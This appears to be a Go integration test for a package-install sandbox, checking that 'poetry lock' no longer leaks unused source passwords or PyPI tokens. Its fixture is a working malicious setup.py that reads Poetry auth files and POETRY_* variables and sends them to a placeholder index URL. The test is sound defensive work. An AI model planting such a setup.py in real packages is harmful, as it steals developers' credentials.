package integration

import (
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
)

// poetryTattleSetupPy is an sdist whose setup.py — run by `poetry lock` to read its
// metadata, with the proxy to the project's sources — sends whatever Poetry
// credentials it can read (auth.toml, POETRY_* variables) to the project's own
// index, the server a hostile project names.
const poetryTattleSetupPy = `import os, urllib.request, urllib.parse
from setuptools import setup
seen = ""
for f in ("~/.config/pypoetry/auth.toml", "~/.config/pypoetry/config.toml"):
    try:
        seen += open(os.path.expanduser(f)).read()
    except Exception:
        pass
seen += " ".join(k + "=" + v for k, v in os.environ.items() if k.startswith("POETRY_"))
try:
    urllib.request.urlopen("@INDEX@/tattle/" + urllib.parse.quote(seen, safe=""), timeout=5).read()
except Exception:
    pass
setup(name="pbox-tattle", version="1.0", py_modules=[], install_requires=[r for r in ["pbox-dep>=1.0"]])
`

// TestPoetryUnusedCredentialsNotInResolve: `poetry lock` runs an sdist's setup.py
// with a proxy to every server the project names, so it gets the credentials of
// the sources the project uses only. A project that names only its own index
// (the attacker's) and depends on an sdist whose setup.py reports home: before,
// the password of the user's company index (auth.toml and
// POETRY_HTTP_BASIC_CORP_PASSWORD) and the PyPI upload token (auth.toml and
// POETRY_PYPI_TOKEN_PYPI) reached that index; now none of them does, and the
// lock still succeeds (its twin with a private source that needs its credentials:
// TestPoetryLockSourceURLSwapBlocked).
func TestPoetryUnusedCredentialsNotInResolve(t *testing.T) {
	t.Parallel()
	poetryNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		ix := pyGreetIndex(t)
		ix.AddSystemWheel("setuptools")
		ix.AddSystemWheel("wheel")
		ix.AddSdist("pbox-tattle", "1.0", map[string]string{"setup.py": strings.ReplaceAll(poetryTattleSetupPy, "@INDEX@", ix.URL)})
		db := regMalDB(t, m, "PyPI")
		b := poetryProject(t, m, ix, "pbox-tattle")
		containmentOnly(t, m, b.Home) // the sandbox alone: a hostile fixture
		mark := strconv.Itoa(os.Getpid())
		secrets := []string{"corp-file-" + mark, "pypi-file-" + mark, "corp-env-" + mark, "pypi-env-" + mark}
		cfg := filepath.Join(b.Home, ".config", "pypoetry")
		writeFile(t, filepath.Join(cfg, "auth.toml"), "[http-basic.corp]\nusername = \"me\"\npassword = \""+secrets[0]+"\"\n\n[pypi-token]\npypi = \""+secrets[1]+"\"\n", 0o600)
		writeFile(t, filepath.Join(cfg, "config.toml"), "[repositories.corp]\nurl = \"https://pkgs.corp.example/simple/\"\n", 0o600)
		chownTree(t, m, b.Home)
		r := invocation{Mode: m, Args: []string{"poetry", "lock"}, Dir: b.Project, Home: b.Home, Timeout: 5 * time.Minute,
			Env: []string{"PHYLUM_BOX_DB=" + db, "POETRY_HTTP_BASIC_CORP_USERNAME=me", "POETRY_HTTP_BASIC_CORP_PASSWORD=" + secrets[2], "POETRY_PYPI_TOKEN_PYPI=" + secrets[3]}}.exec(t)
		wantCode(t, r, 0, "poetry lock of a project depending on an sdist")
		tattled := false
		for _, h := range ix.Hits() {
			if !strings.Contains(h, "/tattle/") {
				continue
			}
			tattled = true
			got, _ := url.PathUnescape(h)
			for _, s := range secrets {
				if strings.Contains(got, s) {
					t.Errorf("%s, of a source the project does not use or a PyPI token, reached the project's index: %s", s, got)
				}
			}
		}
		if !tattled {
			t.Errorf("the sdist's setup.py did not run while locking (the test proves nothing)\n%s", r)
		}
	})
}
